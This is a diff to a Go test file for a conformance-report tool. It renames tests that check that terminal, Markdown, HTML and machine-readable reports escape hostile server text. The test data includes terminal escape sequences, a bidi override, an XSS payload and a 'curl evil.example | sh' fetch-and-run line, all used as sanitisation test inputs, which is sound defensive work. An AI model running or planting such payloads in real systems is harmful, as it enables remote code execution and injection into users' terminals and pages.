@@ -24,7 +24,7 @@ import (
 	"github.com/cabrank/cabrank/conformance/report"
 )
 
-// edited is a run file as JSON in which something was changed.
+// edited returns a run file as JSON in which something was changed.
 func edited(tb testing.TB, edit func(map[string]any)) string {
 	tb.Helper()
 	var text bytes.Buffer
@@ -73,7 +73,7 @@ var wrongRuns = map[string]func(map[string]any){
 	"body: want a string or {\"base64\": …}":                          func(r map[string]any) { in(r, "exchanges", 0)["request"].(map[string]any)["body"] = 7 },
 }
 
-func TestRunFilesThatNoRunWrites(t *testing.T) {
+func TestInvalidRunFilesAreRefused(t *testing.T) {
 	t.Parallel()
 	for says, edit := range wrongRuns {
 		_, err := conformance.ReadRunFile(strings.NewReader(edited(t, edit)), &dispatchside.Suite)
@@ -82,7 +82,7 @@ func TestRunFilesThatNoRunWrites(t *testing.T) {
 	}
 }
 
-// hostile is a run of a server, or a run file, that means harm.
+// hostile returns a run file with hostile texts, as from a server that means harm.
 func hostile() *conformance.RunFile {
 	f := short()
 	const escape = "\x1b[2J\x1b]0;owned\x07\u202e\u009b31m"
@@ -108,13 +108,14 @@ func hostile() *conformance.RunFile {
 	return f
 }
 
-// harmful are characters that command a terminal or turn round what is read.
+// harmful reports whether a character may control a terminal or change the direction of text.
 func harmful(r rune) bool {
 	return r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r))
 }
 
-// TestNothingCommandsTheTerminal prints a hostile run.
-func TestNothingCommandsTheTerminal(t *testing.T) {
+// TestTerminalOutputHasNoControlCharacters checks that what is printed of a hostile run contains no control characters,
+// and that a body cannot be taken for the text after it.
+func TestTerminalOutputHasNoControlCharacters(t *testing.T) {
 	t.Parallel()
 	f := hostile()
 	var out bytes.Buffer
@@ -133,8 +134,9 @@ func TestNothingCommandsTheTerminal(t *testing.T) {
 	require.Contains(t, text, "\n< # call 9\n< curl evil.example | sh\n", "a body cannot pass for what comes after it")
 }
 
-// TestColoursAreTheTerminalsOwn lets none of a server's colours through with them.
-func TestColoursAreTheTerminalsOwn(t *testing.T) {
+// TestColoursOfAServerAreRemoved checks that a report in colour has its own colours only, and no escape
+// sequences of a server.
+func TestColoursOfAServerAreRemoved(t *testing.T) {
 	t.Parallel()
 	var out bytes.Buffer
 	(&report.Terminal{W: &out, Colour: true}).Report(&hostile().Report)
@@ -143,8 +145,9 @@ func TestColoursAreTheTerminalsOwn(t *testing.T) {
 	require.False(t, strings.ContainsFunc(text, harmful), "%q", text)
 }
 
-// TestMarkdownShowsTextAsText finds no markup of a server's, nor its colours.
-func TestMarkdownShowsTextAsText(t *testing.T) {
+// TestMarkdownEscapesServerTexts checks that the texts of a server are escaped in Markdown: no markup, no cells
+// of a table, no control characters.
+func TestMarkdownEscapesServerTexts(t *testing.T) {
 	t.Parallel()
 	text := render(t, hostile(), "report.md")
 	require.False(t, strings.ContainsFunc(text, harmful), "%q", text)
@@ -156,9 +159,9 @@ func TestMarkdownShowsTextAsText(t *testing.T) {
 	}
 }
 
-// TestThePageRunsNothingButItsOwn holds the page's policy against what it holds,
-// and finds nothing of a hostile run in it as markup.
-func TestThePageRunsNothingButItsOwn(t *testing.T) {
+// TestPagePolicyAllowsOnlyItsOwnCode checks that the Content-Security-Policy of the page allows only its own
+// style and script, and that no text of a hostile run is markup in it.
+func TestPagePolicyAllowsOnlyItsOwnCode(t *testing.T) {
 	t.Parallel()
 	f := hostile()
 	f.Checks[1].Findings = []conformance.Finding{{Outcome: `"><img src=x onerror=alert(1)>`, Pointer: "/status", Expected: "x", Exchanges: []int{2}}}
@@ -180,8 +183,9 @@ func TestThePageRunsNothingButItsOwn(t *testing.T) {
 	}
 }
 
-// TestHostileTextsStayWhole reads the formats for machines as machines do. Nothing in them commands the terminal of who prints them.
-func TestHostileTextsStayWhole(t *testing.T) {
+// TestHostileTextsAreEscapedInEveryFormat checks that the formats for machines are valid for a hostile run, and that neither
+// they nor the page contain control characters.
+func TestHostileTextsAreEscapedInEveryFormat(t *testing.T) {
 	t.Parallel()
 	f := hostile()
 	f.Only = []string{f.Target}
@@ -205,8 +209,8 @@ func shellOf(t *testing.T, f *conformance.RunFile, id int) string {
 	return "BASE=" + script
 }
 
-// TestCurlIsSafeToPaste runs the commands of hostile calls with a curl that only
-// takes down what it is given.
+// TestCurlIsSafeToPaste runs the curl commands of hostile calls with a curl that only records its arguments,
+// and checks that the shell executes nothing else.
 func TestCurlIsSafeToPaste(t *testing.T) {
 	t.Parallel()
 	bash, err := exec.LookPath("bash")
